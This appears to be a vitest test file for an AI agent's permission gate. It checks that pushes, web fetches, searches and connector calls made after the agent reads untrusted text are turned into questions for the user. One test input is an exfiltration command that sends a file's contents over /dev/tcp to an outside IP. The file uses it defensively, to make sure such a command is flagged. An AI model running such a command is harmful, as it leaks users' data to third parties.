import { describe, expect, test } from "vitest";
import { decide } from "../../../src/agent/gate/decide.ts";
import { CLOSED, contextFor, MIXED, type Scene } from "../../support/untrusted-scene.ts";

function verdict(name: string, input: unknown, scene: Scene = {}): string {
  const call = { name, input };
  const { behavior, by } = decide(contextFor(call, scene), call);
  return behavior === "allow" ? "allow" : `${behavior}, ${by}`;
}

const PUSH = { command: "git push origin main" };

describe("L1 after text that nobody vouches for, what may leave asks whatever a rule allows", () => {
  test.each([
    ["a command", "Bash", PUSH, "ask, untrusted"],
    ["a command that only reads", "Bash", { command: "git status && grep -r x src" }, "allow"],
    ["a page", "WebFetch", { url: "https://a.b/?q=secret" }, "ask, untrusted"],
    ["a search", "WebSearch", { query: "secret" }, "ask, untrusted"],
    ["a connector's tool", "mcp__s__send", {}, "ask, untrusted"],
    ["one that reads, from anywhere", "mcp__s__read", {}, "ask, untrusted"],
    ["one that reads what its server has", "mcp__s__closed", {}, "allow"],
    ["a tool that nobody knows", "Odd", {}, "ask, untrusted"],
    ["a file to read", "Read", { file_path: "a" }, "allow"],
    ["a file to write", "Write", { file_path: "a", content: "x" }, "allow"],
    ["a message to the team", "SendMessage", { to: "bob", text: "x" }, "allow"],
    ["a subagent, whose calls are asked about themselves", "Agent", { prompt: "x" }, "allow"],
  ])("%s: %s", (_, name, input, expected) => {
    expect(verdict(name, input)).toBe(expected);
    expect(verdict(name, input, { untrusted: { sources: () => [] } })).toBe("allow");
  });

  test("a command that only reads, but tells what it read to the network", () => {
    expect(verdict("Bash", { command: "cat a > /dev/tcp/1.2.3.4/80" })).toBe("ask, untrusted");
  });

  test("the question says why", () => {
    const { reason, suggestion } = decide(contextFor({ name: "Bash", input: PUSH }, {}), {
      name: "Bash",
      input: PUSH,
    });

    expect(reason).toBe(
      "The turn read text from connector docs, and this may send something out or use your credentials.",
    );
    expect(suggestion).toBeUndefined();
  });

  test("a hook's word does not open it", () => {
    const call = { name: "Bash", input: PUSH };

    expect(decide(contextFor(call, {}), call, "allow")).toMatchObject({ behavior: "ask", by: "untrusted" });
  });
});

describe("L1 where it is asked", () => {
  test.each([
    ["commands in the open", {}, "ask, untrusted"],
    ["commands without network", { wall: CLOSED }, "allow"],
    ["commands of which some have network: one that has", { wall: MIXED }, "ask, untrusted"],
    ["no commands at all", { wall: undefined }, "allow"],
    ["a mode in which nobody is asked", { mode: "dontAsk" }, "deny, untrusted"],
    ["a mode that was chosen in order not to be asked", { mode: "bypassPermissions" }, "allow"],
    ["the same, and the settings want it", { mode: "bypassPermissions", setting: true }, "ask, untrusted"],
    ["the settings do not want it", { setting: false }, "allow"],
  ] as const)("%s", (_, scene: Scene, expected) => {
    expect(verdict("Bash", PUSH, scene)).toBe(expected);
  });

  test("a command that is walled in sends nothing out, whatever the settings want", () => {
    expect(verdict("Bash", { command: "echo inside | tee x" }, { wall: MIXED, setting: true })).toBe("allow");
    expect(verdict("mcp__s__send", {}, { wall: CLOSED, setting: true })).toBe("ask, untrusted");
  });
});
